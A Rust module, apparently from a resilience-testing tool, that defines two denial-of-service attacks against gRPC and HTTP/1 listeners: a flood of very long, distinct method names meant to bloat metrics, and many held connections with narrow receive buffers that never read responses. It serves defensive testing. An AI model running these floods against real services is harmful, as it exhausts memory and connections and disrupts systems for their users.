//! gRPC: method names chosen by clients, of maximum length. Metrics keep them permanently, and send them to
//! scrapers, which may not read.

use std::time::Duration;

use futures::FutureExt;
use futures::future::BoxFuture;
use tokio::net::TcpSocket;

use super::Run::Do;
use super::Verdict::Bounded;
use super::crowds::{crowd_of, is_reached};
use super::{Attack, FLOOD, TIMEOUT, attack};
use crate::h1;
use crate::h2::{END_HEADERS, END_STREAM, field, fields_of, frame, hello, kind};
use crate::listeners::Protocol::{Grpc, Http1};
use crate::listeners::{Listener, Request};
use crate::peer::{Peer, Received, Target};

/// Bytes of each name, with its envelope fitting into the largest header list.
const LENGTH: usize = 60_000;
const NAMES: u32 = 200;
/// Index of the method in the static table.
const POST: u8 = 0x83;

/// Connections that request and do not read, and how long they stay.
const UNREAD: u32 = 60;
const STAY: Duration = Duration::from_millis(400);
/// The receive buffer of each connection in bytes.
const NARROW: u32 = 4096;

pub(super) const ATTACKS: &[Attack] = &[
    attack("long, distinct method names", Grpc, Do(send), Bounded, FLOOD),
    attack(
        "unread responses",
        Http1,
        Do(|target| unread(target).boxed()),
        Bounded,
        FLOOD,
    ),
];

/// Sends an honest request on each of many connections, and reads nothing.
async fn unread(target: Target) -> Received {
    let input = h1::request(target.listener, "");
    let (mut held, mut reached) = (Vec::new(), 0);
    for number in 0..UNREAD {
        let target = target.from((target.source.to_bits() + number % 4).into());
        let connected = if target.tls.is_some() || target.socket.is_some() {
            target.connect().await
        } else {
            narrow(&target).await
        };
        reached += usize::from(is_reached(&connected));
        if let Ok(mut peer) = connected {
            peer.send(input.as_bytes()).await;
            held.push(peer);
        }
    }
    tokio::time::sleep(STAY).await;
    drop(held);
    crowd_of(reached, UNREAD as usize)
}

/// A connection with a small receive buffer.
async fn narrow(target: &Target) -> std::io::Result<Peer> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(NARROW)?;
    socket.bind((target.source, 0).into())?;
    Ok(Peer::new(Box::new(socket.connect(target.address).await?)))
}

fn send(target: Target) -> BoxFuture<'static, Received> {
    async move {
        let Ok(mut peer) = target.connect().await else {
            return Received::not_connected();
        };
        peer.send(&hello(&[])).await;
        let listener = target.listener;
        peer.flood((0..NAMES).map(|number| request(listener, number)), TIMEOUT)
            .await
    }
    .boxed()
}

/// A call of a unique method: of the listener's service, or of an app behind it.
fn request(listener: &Listener, number: u32) -> Vec<u8> {
    let name = format!("{number:04}{}", "a".repeat(LENGTH));
    let fields = match listener.honest {
        Request::Call(known, _) if number.is_multiple_of(2) => {
            fields_of(listener, POST, &format!("{known}{name}"))
        }
        _ => {
            let mut fields = fields_of(listener, POST, &format!("/orders.Orders/{name}"));
            field(&mut fields, "dapr-app-id", b"hostile");
            fields
        }
    };
    let pieces: Vec<&[u8]> = fields.chunks(16_000).collect();
    let last = pieces.len() - 1;
    let frames = pieces.iter().enumerate().map(|(at, piece)| {
        let (kind, ends_stream) = match at {
            0 => (kind::HEADERS, END_STREAM),
            _ => (kind::CONTINUATION, 0),
        };
        let ends_headers = if at == last { END_HEADERS } else { 0 };
        frame(kind, ends_stream | ends_headers, 1 + 2 * number, piece)
    });
    frames.collect::<Vec<_>>().concat()
}
